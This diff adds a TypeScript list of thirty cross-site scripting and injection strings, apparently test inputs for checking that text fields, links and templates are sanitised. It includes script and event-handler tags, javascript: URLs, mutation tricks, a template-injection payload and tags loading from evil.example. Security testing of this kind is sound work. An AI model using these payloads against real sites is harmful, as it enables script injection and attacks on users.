@@ -1,0 +1,36 @@
+/**
+ * Texts that run a script, load from elsewhere or lead there wherever a page takes text for markup, a link or a template.
+ * Each fits every text field: at most 100 characters, no comma, no blank at the ends.
+ */
+export const scriptPayloads: readonly string[] = [
+  '<script>alert(1)</script>',
+  '"><script>alert(2)</script>',
+  '</title></textarea></style><script>alert(3)</script>',
+  '<img src=x onerror=alert(4)>',
+  '\'"><img src=x onerror="alert(5)">',
+  '<svg onload=alert(6)>',
+  '<svg><script>alert(7)</script></svg>',
+  '<iframe src="javascript:alert(8)"></iframe>',
+  '<iframe srcdoc="<script>alert(9)</script>"></iframe>',
+  '<a href="javascript:alert(10)">open</a>',
+  'javascript:alert(11)',
+  'JaVaScRiPt:alert(12)//',
+  'vbscript:alert(13)',
+  '[open](javascript:alert(14))',
+  '![picture](x"onerror="alert(15))',
+  '<details open ontoggle=alert(16)>',
+  '<body onload=alert(17)>',
+  '<input autofocus onfocus=alert(18)>',
+  '<video><source onerror=alert(19)></video>',
+  '<object data="javascript:alert(20)"></object>',
+  '<embed src="javascript:alert(21)">',
+  '<math><mtext><mglyph><style></math><img src onerror=alert(22)>',
+  '<link rel=stylesheet href="//evil.example/23.css">',
+  '<base href="//evil.example/24/">',
+  '<meta http-equiv=refresh content="0;url=//evil.example/25">',
+  "<style>@import '//evil.example/26.css'</style>",
+  "{{constructor.constructor('alert(27)')()}}",
+  '\';alert(28)//\\";alert(28)//',
+  '<!--<img src="--><img src=x onerror=alert(29)//">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(30)>">',
+]
